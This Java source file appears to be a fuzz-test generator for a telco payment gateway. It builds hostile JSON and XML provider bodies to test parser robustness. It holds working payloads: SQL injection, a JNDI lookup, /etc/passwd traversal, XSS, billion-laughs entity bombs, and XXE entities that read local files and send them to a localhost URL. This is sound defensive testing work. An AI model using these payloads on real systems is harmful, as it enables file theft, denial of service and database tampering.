package io.payg.telco.fuzz;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Function;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.Tuple;

/**
 * Generators of hostile provider bodies, shared by the adapter fuzz tests (telco-adapters) and the
 * gateway's HTTP fuzz test (through the test jar). A body is built from a provider's valid
 * template: fields replaced by hostile JSON/XML values (type confusion, huge numbers, unicode,
 * injection strings), duplicated keys, byte-level damage (invalid and overlong UTF-8, NUL,
 * truncation), and whole-document attacks (deep nesting, XML bombs, XXE).
 */
public final class HostileBodies {

  /** Strings every field should survive: injection, control characters, RTL, lookalike digits. */
  public static final List<String> HOSTILE_STRINGS = List.of(
      "",
      " ",
      "' OR 1=1 --",
      "'; DROP TABLE transactions; --",
      "\"; DROP TABLE collections; --",
      "\u0000",
      "SN-1\u0000",
      "\u0000' OR '1'='1",
      "\u202eSN-1",
      "\u200fSN\u200e-1",
      "\ufeffSN-1",
      "\u0661\u0662\u0663",
      "\uff15\uff10\uff10",
      "SN\u00ad-1",
      "\ud83d\udca9",
      "${jndi:ldap://127.0.0.1:1/a}",
      "%s%s%n%x",
      "../../../../etc/passwd",
      "<script>alert(1)</script>",
      "\r\nX-Injected: 1",
      "NaN",
      "-0",
      "0x1F4",
      "500,00",
      "5 000",
      "1e400",
      "99999999999999999999999",
      "0.000000000000000000001",
      "A".repeat(300),
      "\u00e9\u0301".repeat(40),
      "\t500.00\n");

  /** Raw JSON values: every type, numbers past every limit, strings the parser must decode. */
  public static final List<String> HOSTILE_JSON_VALUES;

  static {
    List<String> values = new ArrayList<>(List.of(
        "null",
        "true",
        "false",
        "0",
        "-1",
        "-0",
        "0.0",
        "1",
        "12.5",
        "1.0E2",
        "1e400",
        "-1e400",
        "1e-400",
        "99999999999999999999999",
        "-99999999999999999999999",
        "9223372036854775807",
        "9223372036854775808",
        "10000000000001",
        "1" + "0".repeat(1200),
        "0." + "1".repeat(1200),
        "[]",
        "[\"500\"]",
        "[500]",
        "{}",
        "{\"$gt\":0}",
        "{\"amount\":500}",
        "[[[[[[1]]]]]]",
        "\"\\u0000\"",
        "\"\\ud800\"",
        "\"\\udc00\\ud800\"",
        "\"\\u202e\"",
        "\"\\\\\"",
        "\"" + "x".repeat(70_000) + "\""));
    for (String s : HOSTILE_STRINGS) {
      values.add(jsonString(s));
    }
    HOSTILE_JSON_VALUES = List.copyOf(values);
  }

  /** Byte sequences that are not UTF-8, or are UTF-8 that decoders must refuse. */
  public static final List<byte[]> BAD_UTF8 = List.of(
      bytes(0xC0, 0xAF),
      bytes(0xE0, 0x80, 0xAF),
      bytes(0xF0, 0x80, 0x80, 0xAF), // overlong '/'
      bytes(0xC0, 0x80), // overlong NUL
      bytes(0xED, 0xA0, 0x80),
      bytes(0xED, 0xBF, 0xBF), // UTF-8 encoded surrogates
      bytes(0xFF),
      bytes(0xFE, 0xFF),
      bytes(0x80),
      bytes(0xF8, 0x88, 0x80, 0x80, 0x80),
      bytes(0xF4, 0x90, 0x80, 0x80),
      bytes(0x00),
      bytes(0xC3));

  private HostileBodies() {}

  // ------------------------------------------------------------------ JSON

  /**
   * Hostile variants of a JSON template. {@code fields} maps a dotted path ("data.amount") to the
   * valid raw JSON value; the body is rendered from it with some values replaced.
   */
  public static Arbitrary<byte[]> json(Map<String, String> fields) {
    List<String> paths = List.copyOf(fields.keySet());
    Arbitrary<byte[]> mutated = mutations(paths)
        .map(m -> renderJson(fields, m.replaced, m.duplicated).getBytes(StandardCharsets.UTF_8));
    byte[] valid = renderJson(fields, Map.of(), Map.of()).getBytes(StandardCharsets.UTF_8);
    return Arbitraries.frequencyOf(
        Tuple.of(6, mutated),
        Tuple.of(2, damaged(valid)),
        Tuple.of(2, Arbitraries.of(jsonAttacks()).map(s -> s.getBytes(StandardCharsets.UTF_8))),
        Tuple.of(1, Arbitraries.of(BAD_UTF8).map(bad -> splice(valid, valid.length / 2, bad))),
        Tuple.of(1, Arbitraries.just(valid)));
  }

  /** Whole-document JSON attacks: nesting beyond any limit, enormous counts, not-JSON. */
  public static List<String> jsonAttacks() {
    return List.of(
        "[".repeat(100_000) + "]".repeat(100_000),
        "[".repeat(100_000),
        "{\"a\":".repeat(100_000) + "1" + "}".repeat(100_000),
        "{\"transaction\":" + "{\"a\":".repeat(5_000) + "1" + "}".repeat(5_001),
        "{\"data\":" + "[".repeat(999) + "]".repeat(999) + "}",
        "[" + "1,".repeat(30_000) + "1]",
        many(20_000),
        "",
        " ",
        "null",
        "true",
        "0",
        "\"text\"",
        "[]",
        "[{}]",
        "{",
        "}",
        "{}",
        "{\"a\":1}{\"b\":2}",
        "{'amount':'500'}",
        "{amount:500}",
        "{\"a\":1,}",
        "{\"a\":/*c*/1}",
        "{\"a\":NaN}",
        "{\"a\":Infinity}",
        "\ufeff{}",
        "{\"a\":\"\\uZZZZ\"}",
        "{\"a\":\"\u0001\"}",
        "<?xml version=\"1.0\"?><a/>");
  }

  private static String many(int keys) {
    StringBuilder s = new StringBuilder("{");
    for (int i = 0; i < keys; i++) {
      s.append(i == 0 ? "" : ",").append("\"k").append(i).append("\":").append(i);
    }
    return s.append('}').toString();
  }

  /** Renders nested objects from dotted paths, in insertion order, with replacements and duplicates. */
  static String renderJson(
      Map<String, String> fields, Map<String, String> replaced, Map<String, String> duplicated) {
    Map<String, Object> tree = new LinkedHashMap<>();
    for (Map.Entry<String, String> e : fields.entrySet()) {
      put(tree, e.getKey().split("\\."), 0, replaced.getOrDefault(e.getKey(), e.getValue()));
    }
    StringBuilder out = new StringBuilder();
    write(out, tree, "", duplicated);
    return out.toString();
  }

  @SuppressWarnings("unchecked")
  private static void put(Map<String, Object> node, String[] path, int i, String raw) {
    if (i == path.length - 1) {
      node.put(path[i], raw);
      return;
    }
    Object child = node.computeIfAbsent(path[i], k -> new LinkedHashMap<String, Object>());
    if (child instanceof Map) {
      put((Map<String, Object>) child, path, i + 1, raw);
    }
  }

  @SuppressWarnings("unchecked")
  private static void write(
      StringBuilder out, Map<String, Object> node, String prefix, Map<String, String> duplicated) {
    out.append('{');
    boolean first = true;
    for (Map.Entry<String, Object> e : node.entrySet()) {
      String path = prefix + e.getKey();
      out.append(first ? "" : ",").append(jsonString(e.getKey())).append(':');
      first = false;
      if (e.getValue() instanceof Map) {
        write(out, (Map<String, Object>) e.getValue(), path + ".", duplicated);
      } else {
        out.append(e.getValue());
      }
      String dup = duplicated.get(path);
      if (dup != null) {
        out.append(',').append(jsonString(e.getKey())).append(':').append(dup);
      }
    }
    out.append('}');
  }

  public static String jsonString(String s) {
    StringBuilder out = new StringBuilder("\"");
    for (int i = 0; i < s.length(); i++) {
      char c = s.charAt(i);
      if (c == '"' || c == '\\') {
        out.append('\\').append(c);
      } else if (c < 0x20) {
        out.append(String.format("\\u%04x", (int) c));
      } else {
        out.append(c);
      }
    }
    return out.append('"').toString();
  }

  private record Mutation(Map<String, String> replaced, Map<String, String> duplicated) {}

  private static Arbitrary<Mutation> mutations(List<String> paths) {
    Arbitrary<Map<String, String>> replaced = Arbitraries.maps(
            Arbitraries.of(paths), Arbitraries.of(HOSTILE_JSON_VALUES))
        .ofMinSize(1)
        .ofMaxSize(3);
    Arbitrary<Map<String, String>> duplicated = Arbitraries.maps(
            Arbitraries.of(paths), Arbitraries.of(HOSTILE_JSON_VALUES))
        .ofMaxSize(2);
    return Combinators.combine(replaced, duplicated.injectNull(0.6))
        .as((r, d) -> new Mutation(r, d == null ? Map.of() : d));
  }

  // ------------------------------------------------------------------ bytes

  /** The valid body truncated, with a byte flipped, or with bad UTF-8 or NUL spliced in. */
  public static Arbitrary<byte[]> damaged(byte[] valid) {
    Arbitrary<Integer> at = Arbitraries.integers().between(0, valid.length);
    Arbitrary<byte[]> truncated = at.map(n -> Arrays.copyOf(valid, n));
    Arbitrary<byte[]> flipped = Combinators.combine(at, Arbitraries.integers().between(0, 255))
        .as((i, b) -> {
          byte[] copy = valid.clone();
          if (copy.length > 0) {
            copy[Math.min(i, copy.length - 1)] = (byte) (int) b;
          }
          return copy;
        });
    Arbitrary<byte[]> spliced =
        Combinators.combine(at, Arbitraries.of(BAD_UTF8)).as((i, bad) -> splice(valid, i, bad));
    return Arbitraries.oneOf(truncated, flipped, spliced);
  }

  static byte[] splice(byte[] body, int at, byte[] inserted) {
    ByteArrayOutputStream out = new ByteArrayOutputStream(body.length + inserted.length);
    out.write(body, 0, at);
    out.write(inserted, 0, inserted.length);
    out.write(body, at, body.length - at);
    return out.toByteArray();
  }

  private static byte[] bytes(int... values) {
    byte[] b = new byte[values.length];
    for (int i = 0; i < values.length; i++) {
      b[i] = (byte) values[i];
    }
    return b;
  }

  // ------------------------------------------------------------------ XML

  /** Text (already XML) an element's content can be replaced with. */
  public static final List<String> HOSTILE_XML_TEXT;

  static {
    List<String> values = new ArrayList<>(List.of(
        "",
        "&xxe;",
        "&lol9;",
        "&#0;",
        "&#x0;",
        "&#xD800;",
        "&#x110000;",
        "&#65;&#66;",
        "&amp;&lt;&gt;",
        "&",
        "<",
        "<![CDATA[500.00]]>",
        "<![CDATA[' OR 1=1 --]]>",
        "<![CDATA[]]>]]>",
        "<a/>",
        "<amount>1</amount>",
        "<?php system('id'); ?>",
        "<!-- c -->500.00",
        "1e400",
        "99999999999999999999999",
        "-500",
        "500.001",
        "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file:///etc/passwd\" parse=\"text\"/>",
        "x".repeat(20_000)));
    for (String s : HOSTILE_STRINGS) {
      values.add(xmlEscape(s));
    }
    HOSTILE_XML_TEXT = List.copyOf(values);
  }

  /**
   * Hostile variants of an XML document whose fields are written by {@code render}: given the
   * replacements (field name to raw XML content), it returns the document.
   */
  public static Arbitrary<byte[]> xml(
      List<String> fieldNames, Function<Map<String, String>, String> render) {
    byte[] valid = render.apply(Map.of()).getBytes(StandardCharsets.UTF_8);
    Arbitrary<byte[]> mutated = Arbitraries.maps(
            Arbitraries.of(fieldNames), Arbitraries.of(HOSTILE_XML_TEXT))
        .ofMinSize(1)
        .ofMaxSize(3)
        .map(r -> render.apply(r).getBytes(StandardCharsets.UTF_8));
    return Arbitraries.frequencyOf(
        Tuple.of(5, mutated),
        Tuple.of(2, damaged(valid)),
        Tuple.of(
            3,
            Arbitraries.of(xmlAttacks(new String(valid, StandardCharsets.UTF_8)))
                .map(s -> s.getBytes(StandardCharsets.UTF_8))),
        Tuple.of(1, Arbitraries.just(valid)));
  }

  /** Marker text of a local file XXE attacks point at: it must never come back out. */
  public static final String SECRET_FILE_MARKER = "XXE-MARKER-8f14e45fceea167a5a36dedd4bea2543";

  private static volatile String secretFileUri;

  /** A local file holding {@link #SECRET_FILE_MARKER}, for the external entities to read. */
  public static synchronized String secretFileUri() {
    if (secretFileUri == null) {
      try {
        Path file = Files.createTempFile("xxe-target", ".txt");
        Files.writeString(file, SECRET_FILE_MARKER);
        file.toFile().deleteOnExit();
        secretFileUri = file.toUri().toString();
      } catch (IOException e) {
        throw new IllegalStateException(e);
      }
    }
    return secretFileUri;
  }

  /** Bombs, XXE, external DTDs, deep nesting; the valid document is used where a body is needed. */
  public static List<String> xmlAttacks(String valid) {
    String file = secretFileUri();
    String body = valid.replaceFirst("^<\\?xml[^>]*\\?>", "");
    String root = body.substring(body.indexOf('<') + 1).split("[ >]", 2)[0];
    String lol = "<!ENTITY lol \"lol\">";
    StringBuilder laughs = new StringBuilder(lol);
    for (int i = 1; i <= 9; i++) {
      String prev = i == 1 ? "lol" : "lol" + (i - 1);
      laughs
          .append("<!ENTITY lol")
          .append(i)
          .append(" \"")
          .append(("&" + prev + ";").repeat(10))
          .append("\">");
    }
    String big = "A".repeat(20_000);
    List<String> attacks = new ArrayList<>();
    attacks.add("<?xml version=\"1.0\"?><!DOCTYPE lolz [" + laughs + "]><lolz>&lol9;</lolz>");
    attacks.add("<?xml version=\"1.0\"?><!DOCTYPE " + root + " [" + laughs + "]>"
        + body.replace("SN-0001", "&lol9;"));
    attacks.add("<?xml version=\"1.0\"?><!DOCTYPE kaboom [<!ENTITY a \"" + big + "\">]><kaboom>"
        + "&a;".repeat(2_000) + "</kaboom>");
    attacks.add("<?xml version=\"1.0\"?><!DOCTYPE " + root + " [<!ENTITY xxe SYSTEM \"" + file
        + "\">]>" + body.replace("SN-0001", "&xxe;"));
    attacks.add("<?xml version=\"1.0\"?><!DOCTYPE " + root
        + " [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>" + body.replace("SN-0001", "&xxe;"));
    attacks.add("<?xml version=\"1.0\"?><!DOCTYPE " + root + " [<!ENTITY % p SYSTEM \"" + file
        + "\">" + "<!ENTITY % e \"<!ENTITY exfil SYSTEM 'http://127.0.0.1:1/?%p;'>\">%e;]>"
        + body.replace("SN-0001", "&exfil;"));
    attacks.add("<?xml version=\"1.0\"?><!DOCTYPE " + root
        + " SYSTEM \"http://127.0.0.1:1/evil.dtd\">" + body);
    attacks.add("<?xml version=\"1.0\"?><!DOCTYPE " + root + " PUBLIC \"-//X//EN\" \"" + file
        + "\">" + body);
    attacks.add("<?xml version=\"1.0\"?><!DOCTYPE " + root
        + " [<!ENTITY % d SYSTEM \"http://127.0.0.1:1/x.dtd\">%d;]>" + body);
    attacks.add("<?xml version=\"1.0\"?><!DOCTYPE " + root + ">" + body);
    attacks.add("<a>".repeat(100_000) + "</a>".repeat(100_000));
    attacks.add("<a>".repeat(5_000) + "</a>".repeat(5_000));
    attacks.add(body.replace("SN-0001", "<x>".repeat(40) + "SN-0001" + "</x>".repeat(40)));
    attacks.add("<?xml version=\"1.0\" encoding=\"UTF-16\"?>" + body);
    attacks.add("<?xml version=\"1.0\" encoding=\"EBCDIC-XYZ\"?>" + body);
    attacks.add("<?xml version=\"1.1\"?>" + body.replace("SN-0001", "&#1;SN-0001"));
    attacks.add("<?xml-stylesheet type=\"text/xsl\" href=\"" + file + "\"?>" + body);
    attacks.add(body + body);
    attacks.add(body + "<!-- trailing -->garbage");
    attacks.add("\ufeff" + valid);
    attacks.add(valid.replace("mpesaBroker", "mpesabroker"));
    attacks.add("<" + root + " " + "a=\"1\" ".repeat(1) + many("x", 3_000) + "/>");
    attacks.add("");
    attacks.add("not xml at all");
    attacks.add("{\"json\":true}");
    return attacks;
  }

  private static String many(String prefix, int attributes) {
    StringBuilder s = new StringBuilder();
    for (int i = 0; i < attributes; i++) {
      s.append(prefix).append(i).append("=\"").append(i).append("\" ");
    }
    return s.toString();
  }

  public static String xmlEscape(String s) {
    return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;");
  }
}
